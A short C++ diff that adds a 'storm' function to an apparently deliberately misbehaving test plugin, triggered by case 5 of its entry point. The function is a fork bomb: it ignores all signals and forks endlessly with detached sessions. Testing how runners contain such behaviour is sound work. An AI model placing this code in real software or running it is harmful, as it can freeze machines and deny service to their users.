@@ -194,6 +194,13 @@ void leave_a_daemon_and_die() {
   std::abort();
 }
 
+// All that are made make more, and none ends by itself.
+void storm() {
+  for (int number = 1; number < 32; ++number) signal(number, SIG_IGN);
+  while (true)
+    if (fork() == 0) setsid();
+}
+
 assay_status entry(const assay_call*, assay_in, assay_out out) {
   switch (out->shape[out->ndim - 1]) {
     case 1:
@@ -207,6 +214,9 @@ assay_status entry(const assay_call*, assay_in, assay_out out) {
       break;
     case 4:
       leave_a_daemon_and_die();
+      break;
+    case 5:
+      storm();
       break;
     default:
       break;
